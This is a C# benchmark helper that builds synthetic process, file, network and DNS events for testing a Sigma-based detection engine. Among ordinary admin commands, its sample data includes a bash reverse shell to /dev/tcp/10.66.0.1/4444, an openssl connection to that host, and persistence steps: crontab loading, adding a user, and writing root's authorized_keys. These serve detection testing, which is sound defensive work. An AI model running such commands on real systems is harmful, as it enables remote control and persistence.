using System.Globalization;
using Detektr.Sigma.Events;

namespace Detektr.Sigma.Benchmarks;

/// <summary>Builds Detektr-shaped events with realistic command lines, a few of them suspicious.</summary>
internal static class EventGenerator
{
    private static readonly (string Image, string CommandLine)[] Processes =
    [
        ("/usr/bin/ls", "ls -la /var/log"),
        ("/usr/bin/grep", "grep -r --include=*.conf listen /etc/nginx"),
        ("/usr/bin/python3", "python3 -m pip install --user requests==2.32.3"),
        ("/bin/bash", "bash -c 'for f in /srv/app/*.log; do gzip \"$f\"; done'"),
        ("/usr/bin/curl", "curl -fsSL https://example.org/install.sh -o /tmp/install.sh"),
        ("/usr/bin/git", "git -C /srv/app fetch --prune origin"),
        ("/usr/bin/tar", "tar czf /backup/app-2025-01-30.tgz /srv/app"),
        ("/usr/bin/find", "find /tmp -type f -mtime +7 -delete"),
        ("/bin/sh", "sh -c 'bash -i >& /dev/tcp/10.66.0.1/4444 0>&1'"),
        ("/usr/bin/base64", "base64 -d /tmp/p.b64"),
        ("/usr/bin/crontab", "crontab /tmp/cron.txt"),
        ("/usr/bin/ssh-keygen", "ssh-keygen -t ed25519 -f /home/alice/.ssh/id_ed25519 -N ''"),
        ("/usr/bin/openssl", "openssl s_client -quiet -connect 10.66.0.1:443"),
        ("/usr/sbin/useradd", "useradd -m -s /bin/bash backup2"),
        ("/usr/bin/awk", "awk -F: '{print $1}' /etc/passwd"),
        ("/usr/bin/dd", "dd if=/dev/zero of=/tmp/fill bs=1M count=10"),
    ];

    private static readonly string[] Parents = ["/bin/bash", "/usr/sbin/sshd", "/usr/bin/python3", "/usr/lib/systemd/systemd", "/usr/sbin/nginx"];
    private static readonly string[] Directories = ["/home/alice", "/tmp/build", "/srv/app", "/", "/dev/shm/x"];

    public static List<Dictionary<string, object?>> ProcessEvents(int count)
    {
        var events = new List<Dictionary<string, object?>>(count);
        for (int i = 0; i < count; i++)
        {
            (string image, string commandLine) = Processes[i % Processes.Length];
            events.Add(new Dictionary<string, object?>
            {
                ["RunId"] = "bench",
                ["Sequence"] = (long)i,
                ["EventType"] = "process_creation",
                ["UtcTime"] = "2025-01-30T10:00:00.000Z",
                ["Image"] = image,
                ["CommandLine"] = commandLine + (i % 3 == 0 ? " " + i.ToString(CultureInfo.InvariantCulture) : string.Empty),
                ["ParentImage"] = Parents[i % Parents.Length],
                ["ParentCommandLine"] = Parents[i % Parents.Length] + " -c worker",
                ["CurrentDirectory"] = Directories[i % Directories.Length],
                ["User"] = i % 4 == 0 ? "root" : "alice",
                ["ProcessId"] = 1000L + i,
                ["ParentProcessId"] = 900L + (i % 50),
            });
        }

        return events;
    }

    public static List<Dictionary<string, object?>> MixedEvents(int count)
    {
        List<Dictionary<string, object?>> events = ProcessEvents(count);
        for (int i = 0; i < events.Count; i++)
        {
            switch (i % 4)
            {
                case 1:
                    events[i] = new Dictionary<string, object?>
                    {
                        ["RunId"] = "bench", ["Sequence"] = (long)i, ["EventType"] = "file_event", ["UtcTime"] = "2025-01-30T10:00:00.000Z",
                        ["Operation"] = i % 8 == 1 ? "delete" : "write", ["Image"] = "/usr/bin/tar", ["ProcessId"] = 1000L + i,
                        ["TargetFilename"] = i % 16 == 1 ? "/root/.ssh/authorized_keys" : "/srv/app/cache/" + i.ToString(CultureInfo.InvariantCulture),
                    };
                    break;
                case 2:
                    events[i] = new Dictionary<string, object?>
                    {
                        ["RunId"] = "bench", ["Sequence"] = (long)i, ["EventType"] = "network_connection", ["UtcTime"] = "2025-01-30T10:00:00.000Z",
                        ["Image"] = "/usr/bin/curl", ["ProcessId"] = 1000L + i, ["Initiated"] = true, ["Protocol"] = "tcp",
                        ["SourceIp"] = "10.66.0.2", ["SourcePort"] = 40000L + (i % 1000), ["DestinationIp"] = "10.66.0.1",
                        ["DestinationPort"] = i % 10 == 2 ? 1337L : 443L, ["DestinationHostname"] = "sink.test", ["Outcome"] = "connected",
                    };
                    break;
                case 3:
                    events[i] = new Dictionary<string, object?>
                    {
                        ["RunId"] = "bench", ["Sequence"] = (long)i, ["EventType"] = "dns_query", ["UtcTime"] = "2025-01-30T10:00:00.000Z",
                        ["Image"] = "/usr/bin/curl", ["ProcessId"] = 1000L + i,
                        ["QueryName"] = "host" + i.ToString(CultureInfo.InvariantCulture) + ".example.org", ["QueryResults"] = new[] { "10.66.0.1" },
                    };
                    break;
            }
        }

        return events;
    }

    public static SigmaEvent[] ToEvents(IEnumerable<Dictionary<string, object?>> events) => [.. events.Select(SigmaEvent.FromDictionary)];
}
